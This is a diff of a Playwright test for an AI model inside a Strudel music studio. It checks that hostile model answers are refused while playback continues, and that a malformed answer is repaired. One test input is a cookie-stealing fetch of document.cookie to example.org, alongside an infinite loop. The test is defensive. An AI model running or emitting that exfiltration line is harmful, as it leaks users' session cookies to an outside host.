@@ -1,9 +1,9 @@
 import type { Locator, Page } from '@playwright/test';
 import { ModelProcess } from './model-process.ts';
-import { louder, recordedOnsets } from './onsets.ts';
+import { endsSilent, hasOnsets, louder, recordedOnsets } from './onsets.ts';
 import { Product } from './product.ts';
-import { hear, record } from './recorder.ts';
-import type { StudioDriver } from './studio-driver.ts';
+import { hear, listenTo, recordWhile } from './recorder.ts';
+import { StudioDriver } from './studio-driver.ts';
 import { expect, test } from './test.ts';
 
 /** The assistant as a person finds it. */
@@ -110,81 +110,62 @@ test('from an empty project: a prompt, heard, two layers taken, changed in words
   await expect(kept.getByRole('heading')).toHaveCount(1);
 });
 
-/** A product whose AI is a model that says what a test tells it to. */
-const modelTest = test.extend<object, { model: ModelProcess }>({
-  model: [
-    // biome-ignore lint/correctness/noEmptyPattern: Playwright reads the names of a fixture's needs from here
-    async ({}, use) => {
-      const model = await ModelProcess.start();
-      await use(model);
-      model.dispose();
-    },
-    { scope: 'worker' },
-  ],
-  product: [
-    async ({ model }, use) => {
-      const product = await Product.start({
-        AI_PROVIDER: 'openai',
-        AI_MODEL: 'fake',
-        AI_URL: model.url,
-      });
-      await use(product);
-      await product.dispose();
-    },
-    { scope: 'worker' },
-  ],
-});
-
-modelTest(
-  'a model whose first answer is no Strudel has it repaired, and that is told',
-  async ({ studio, page, model }) => {
-    expect(await studio.grid.count()).toBe(1);
-    model.says('stack(s("bd*4"), s("hh*8")', 'stack(s("bd*4"), s("hh*8"))');
-    const assistant = new AssistantSide(page);
-    await assistant.open();
-    await expect(
-      assistant.side.getByText(/your prompt stays on this studio’s server/),
-    ).toBeVisible();
-    await assistant.ask('a beat');
-    await expect(assistant.proposal).toBeVisible({ timeout: 20_000 });
-    await expect(
-      assistant.proposal.getByText('Repaired once: the first answer did not play.').first(),
-    ).toBeVisible();
-    expect(model.asked).toBe(2);
-    await assistant.button('Listen').click();
-    await hear(page, louder(0.05));
-  },
-);
-
-modelTest(
-  'a hostile answer ends in a sentence, while the music that plays goes on',
-  { tag: '@sound' },
-  async ({ studio, page, model }) => {
-    modelTest.setTimeout(120_000);
+test('a hostile answer ends in a sentence, while the music that plays goes on; one that is no Strudel is repaired, and that is told', {
+  tag: '@sound',
+}, async ({ page }) => {
+  test.setTimeout(120_000);
+  const model = await ModelProcess.start();
+  const settings = { AI_PROVIDER: 'openai', AI_MODEL: 'fake', AI_URL: model.url };
+  const product = await Product.start(settings);
+  try {
+    await listenTo(page);
+    const studio = new StudioDriver(page, product.url);
+    await studio.signUp();
     const others: string[] = [];
     page.on('request', (request) => others.push(request.url()));
     await studio.click('Snare', [1, 5, 9, 13]);
     await studio.play();
     const assistant = new AssistantSide(page);
     await assistant.open();
+    await expect(
+      assistant.side.getByText(/your prompt stays on this studio’s server/),
+    ).toBeVisible();
     for (const program of [
       'while (true) {}',
       'fetch("https://example.org/?" + document.cookie); s("nothing")',
     ]) {
       model.says(program);
-      await assistant.ask('a beat');
-      const recording = record(page, 6);
-      await expect(assistant.side.getByRole('alert')).toContainText(/attempts: 3/, {
-        timeout: 40_000,
-      });
+      const isRefused = async () => {
+        await assistant.ask('a beat');
+        await expect.poll(() => model.asked).toBe(3);
+        await expect(assistant.side.getByRole('alert')).toContainText(/attempts: 3/, {
+          timeout: 40_000,
+        });
+      };
+      const heard = await recordWhile(page, isRefused, hasOnsets(9));
       await expect(assistant.proposal).toHaveCount(0);
       await expect(assistant.side.getByRole('textbox')).toHaveValue('a beat');
       // Four snares a bar at 120 bpm: every half second, none left out.
-      const onsets = recordedOnsets(await recording);
+      const onsets = recordedOnsets(heard);
       const gaps = onsets.slice(1).map((onset, index) => onset - (onsets[index] ?? 0));
       expect(onsets.length).toBeGreaterThan(8);
       expect(Math.max(...gaps)).toBeLessThan(0.52);
     }
     expect(others.filter((url) => url.includes('example.org'))).toEqual([]);
-  },
-);
+
+    await studio.stop();
+    await hear(page, endsSilent());
+    model.says('stack(s("bd*4"), s("hh*8")', 'stack(s("bd*4"), s("hh*8"))');
+    await assistant.ask('a beat');
+    await expect(assistant.proposal).toBeVisible({ timeout: 20_000 });
+    await expect(
+      assistant.proposal.getByText('Repaired once: the first answer did not play.').first(),
+    ).toBeVisible();
+    await expect.poll(() => model.asked).toBe(2);
+    await assistant.button('Listen to after').click();
+    await hear(page, louder(0.05));
+  } finally {
+    await product.dispose();
+    model.dispose();
+  }
+});
